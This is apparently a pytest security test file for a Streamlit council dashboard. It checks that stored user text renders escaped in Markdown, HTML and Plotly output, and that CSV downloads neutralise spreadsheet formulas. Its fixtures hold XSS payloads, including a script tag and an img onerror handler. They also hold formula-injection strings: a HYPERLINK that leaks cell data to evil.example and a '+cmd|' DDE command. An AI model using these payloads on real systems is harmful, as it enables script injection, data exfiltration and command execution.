"""No store text reaches a Markdown or Plotly-HTML place unescaped (issue 6).

Every user-text column the pages show gets the same payload (a script tag, an image with an
onerror handler, a Markdown link, a Markdown image and a bare link); then every page is opened
as the assistant director, with the detail views where the text shows, and every element that
renders Markdown (headings, markdown, captions, alerts, expander and tab labels, table cells,
option labels, metric and button labels) and every string in every Plotly spec is checked.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from qa_core.store import Store
from tests.pages.conftest import app_over, open_page, open_tables, sign_in

PAYLOAD = ("<script>window.__x=1</script> <img src=https://evil.example/i.png onerror=window.__y=1> "
           "[click](https://evil.example/l) ![im](https://evil.example/m.png) https://evil.example/bare "
           '<a href="https://evil.example/a">a</a> x.y@evil.example')
P = PAYLOAD.replace("'", "''")  # as an SQL literal (it has no quote, but stay safe)

# Each text column the pages show: names keep their id in front, so they stay distinct.
INJECT = [
    f"UPDATE setting SET value = 'Kestrel {P}' WHERE key = 'council_name'",
    f"UPDATE service SET name = service_id || ' {P}', head_of_service = 'Head {P}'",
    f"UPDATE team SET name = team_id || ' {P}', manager = 'Manager {P}'",
    f"UPDATE indicator SET name = code || ' {P}'",
    f"UPDATE plan_area SET name = area_id || ' {P}', lead = 'Lead {P}', ofsted_recommendation = 'Ofsted {P}'",
    f"UPDATE plan_narrative SET text = 'Narrative {P}', evidence = 'Evidence {P}'",
    f"UPDATE plan_priority SET description = 'Priority {P}'",
    f"UPDATE commentary SET text = 'Commentary {P}', author = 'Author {P}'",
    f"UPDATE clinic_action SET description = 'Action {P}', owner = 'Owner {P}'",
    f"UPDATE audit_action SET description = 'Audit action {P}', owner = 'Owner {P}'",
    f"UPDATE audit_area_grade SET area = area || ' {P}'",
    f"UPDATE risk SET title = 'Risk {P}', description = 'Description {P}', owner = 'Owner {P}'",
    f"UPDATE risk_review SET controls = 'Controls {P}', reasons = 'Reasons {P}', outlook = 'Outlook {P}'",
    f"UPDATE risk_matrix SET name = matrix_id || ' {P}'",
    f"UPDATE risk_matrix_cell SET band = band || ' {P}'",
    f"UPDATE published_la SET name = name || ' {P}', region_name = region_name || ' {P}'",
    f"UPDATE published_measure SET name = measure || ' {P}', source = 'Source {P}'",
]


def inject_payloads(db: Path) -> None:
    """Write the payload into every user-text column of the store at ``db``."""
    with Store(db) as store:
        for sql in INJECT:
            store.execute(sql)


@pytest.fixture(scope="module")
def injected_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("user_text") / "qa.duckdb"
    shutil.copy(demo_db, db)
    inject_payloads(db)
    return db


@pytest.fixture
def app(injected_db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator:
    yield from app_over(injected_db, monkeypatch)


# Live Markdown: a link or image not escaped, an HTML tag not escaped, a bare link's scheme, or an
# email address (GFM links "x@y.example" as mailto:).
LIVE_MD = re.compile(r"(?<!\\)\]\(|!\[|(?<!\\)<(a|img|script)|https?://|[\w.+-]@[\w-]")
LIVE_HTML = re.compile(r"<(a|img|script)\b", re.IGNORECASE)


def _markdown_texts(block) -> list[tuple[str, str]]:
    """(what, text) for every Markdown-rendered string in an AppTest block (main or sidebar)."""
    out: list[tuple[str, str]] = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
        out += [(kind, str(e.value)) for e in getattr(block, kind)]
    out += [("expander", e.label) for e in block.expander]
    out += [("tab", t.label) for t in block.tabs]
    out += [("metric", m.label) for m in block.metric]
    out += [("button", b.label) for b in block.button]
    out += [("download", b.proto.label) for b in block.get("download_button")]
    out += [("page_link", b.proto.label) for b in block.get("page_link")]
    # Radio options are Markdown; a selectbox's options are shown as plain text (checked in Chromium:
    # a '[x](https://…)' option is no link), so they keep the stored name exactly.
    out += [("radio option", str(o)) for w in block.radio for o in w.options]
    for table in block.table:
        frame = table.value
        out += [("table heading", str(c)) for c in frame.columns]
        out += [("table cell", v) for v in frame.astype(object).to_numpy().ravel() if isinstance(v, str)]
    return out


def _strings(node) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from _strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from _strings(value)


def _check(app, where: str) -> int:
    """Assert nothing live in the main area; returns how many escaped payloads were seen."""
    assert not app.exception, f"{where}: {app.exception[0].message}"
    texts = _markdown_texts(app.main)
    live = [(kind, text) for kind, text in texts if LIVE_MD.search(text)]
    assert not live, f"{where}: unescaped user text in {live[:3]}"
    for chart in app.main.get("plotly_chart"):
        spec = json.loads(chart.proto.spec)
        bad = [s for s in _strings(spec) if LIVE_HTML.search(s)]
        assert not bad, f"{where}: HTML in a Plotly spec: {bad[:3]}"
    return sum("evil.example" in text for _, text in texts)


def _open(app, page: str, service: str = "all", **state) -> None:
    open_page(app, page, role="assistant_director", service=service, check=False, **state)


VIEWS = [
    ("home", "all", {}),
    ("home", "assessment", {}),
    ("clinic", "assessment", {}),
    ("rag", "all", {}),
    ("rag", "assessment", {}),
    ("audits", "all", {}),
    ("audits", "assessment", {}),
    ("audits", "all", {"audit_tab": "Against the 10% target", "audit_compare": "team"}),
    ("audits", "all", {"audit_tab": "Areas behind Inadequate"}),
    ("audits", "assessment", {"audit_tab": "Completion"}),
    ("audits", "assessment", {"audit_tab": "Moderation"}),
    ("audits", "assessment", {"audit_tab": "Overdue audit actions"}),
    ("risks", "all", {}),
    ("risks", "assessment", {}),
    ("teams", "assessment", {"view": "Teams side by side"}),
    ("teams", "assessment", {"view": "Team profile", "team": "assessment_01"}),
    ("scrutiny", "all", {}),
    ("benchmarks", "all", {}),
    ("data", "all", {}),
]


@pytest.mark.parametrize(("page", "service", "state"), VIEWS,
                         ids=[f"{p}-{s}-{'-'.join(map(str, st.values())) or 'default'}" for p, s, st in VIEWS])
def test_no_store_text_is_live_markdown_or_html(app, page, service, state):
    _open(app, page, service, **state)
    _check(app, f"{page} ({service}, {state})")


def test_the_payload_is_shown_escaped_not_dropped(app):
    # The heading names the service, and the measure list names each measure: both escaped.
    _open(app, "clinic", "assessment")
    assert _check(app, "clinic") > 0
    subheader = app.main.subheader[0].value
    assert "\\<script\\>" in subheader and "\\[click\\]" in subheader
    # The clinic's commentary and the risk's controls go through st.text, which shows text as text.
    _open(app, "risks")
    assert any(t.value.startswith("Controls <script>") for t in app.main.text)


def test_the_sidebar_shows_store_text_escaped(app):
    """The sidebar's caption names the council and the benchmark LA (dashboard.py); the Service
    options are a selectbox's, which show text as text."""
    _open(app, "home")
    texts = _markdown_texts(app.sidebar)
    assert any("Published comparisons use" in text for _, text in texts)  # the caption was checked
    live = [(kind, text) for kind, text in texts if LIVE_MD.search(text)]
    assert not live, f"the sidebar shows store text as live Markdown: {live[:2]}"


# -- downloads: no stored text opens as a formula in a spreadsheet (issue 11, finding 4) -----------
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x") '
F = FORMULA.replace("'", "''")
FORMULA_INJECT = [
    f"UPDATE service SET name = '{F}' || name, head_of_service = '+cmd|x!A0 ' || head_of_service",
    f"UPDATE team SET name = '{F}' || name, manager = '@SUM(1) ' || manager",
    f"UPDATE indicator SET name = '{F}' || name",
    f"UPDATE plan_area SET name = '{F}' || name, lead = '-2+3 ' || lead",
    f"UPDATE plan_priority SET description = '{F}' || description",
    f"UPDATE audit_action SET description = '{F}' || description, owner = '\t=1 ' || owner",
    f"UPDATE audit_area_grade SET area = '{F}' || area",
    f"UPDATE risk SET title = '{F}' || title, owner = ' =1 ' || owner",
    f"UPDATE risk_matrix SET name = '{F}' || name",
    f"UPDATE published_la SET name = '{F}' || name",
    f"UPDATE published_measure SET name = '{F}' || name",
    "INSERT INTO import_log (imported_at, user_name, file_name, file_sha256, kind, status, messages) VALUES "
    f"(TIMESTAMP '2026-11-02 09:00', '@evil', '{F}.csv', 'ab', 'risks', 'imported', '-1+1 messages')",
]


def _opens_a_formula(cell: str) -> bool:
    """A spreadsheet runs a cell that starts with = + - @ (after spaces) or a tab or carriage
    return, unless it is a number or a lone sign."""
    if not (cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")):
        return False
    try:
        float(cell.strip().rstrip("%").replace(",", ""))
        return cell.strip().lstrip("+-")[:1] not in tuple("0123456789.")
    except ValueError:
        return cell.strip() not in ("+", "-")


@pytest.fixture(scope="module")
def formula_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("formulas") / "qa.duckdb"
    shutil.copy(demo_db, db)
    with Store(db) as store:
        for sql in FORMULA_INJECT:
            store.execute(sql)
    return db


def test_no_csv_download_carries_a_live_formula(formula_db, monkeypatch):
    """Every CSV download on every view (charts' data, tables, registers, the team report, the
    import log): stored text that a spreadsheet would run is written with a quote in front.

    The store holds an import (the log row above), so it is a council's store: the local demo never
    shows it, and the assistant director signs in. Most downloads are made when pressed (issue 14):
    those are made here as the press would make them."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    downloads: dict[str, bytes] = {}
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def recording(self, data, mimetype, coordinates, file_name=None, **kwargs):
        downloads[file_name or coordinates] = data if isinstance(data, bytes) else str(data).encode()
        return add(self, data, mimetype, coordinates, file_name=file_name, **kwargs)

    def pressing(self, make, mimetype, coordinates, file_name=None, **kwargs):
        data = make()
        downloads[file_name or coordinates] = data if isinstance(data, bytes) else str(data).encode()
        return add_deferred(self, make, mimetype, coordinates, file_name=file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", recording)
    monkeypatch.setattr(MediaFileManager, "add_deferred", pressing)
    for app in app_over(formula_db, monkeypatch):
        # The injected import_log row makes this a council's store: the local demo shows it to
        # nobody (ui.auth), so sign in as the assistant director.
        sign_in(app, "ad@kestrelvale.example")
        for page, service, state in VIEWS:
            _open(app, page, service, **state)
            assert not app.exception, f"{page}: {app.exception[0].message}"
            open_tables(app)  # the charts' tables and their downloads are drawn once opened
    csvs = {name: data for name, data in downloads.items() if name.endswith(".csv")}
    assert len(csvs) >= 30, sorted(downloads)
    quoted = 0
    for name, data in csvs.items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        live = [cell for row in rows for cell in row if _opens_a_formula(cell)]
        assert not live, f"{name}: {live[:3]}"
        quoted += sum(cell.startswith("'") for row in rows for cell in row)
    assert quoted > 100  # the injected text was there, quoted
    log = list(csv.DictReader(io.StringIO(csvs["import-log.csv"].decode("utf-8"))))
    assert (log[0]["File"], log[0]["Who"], log[0]["Messages"]) == ("'" + FORMULA + ".csv", "'@evil", "'-1+1 messages")
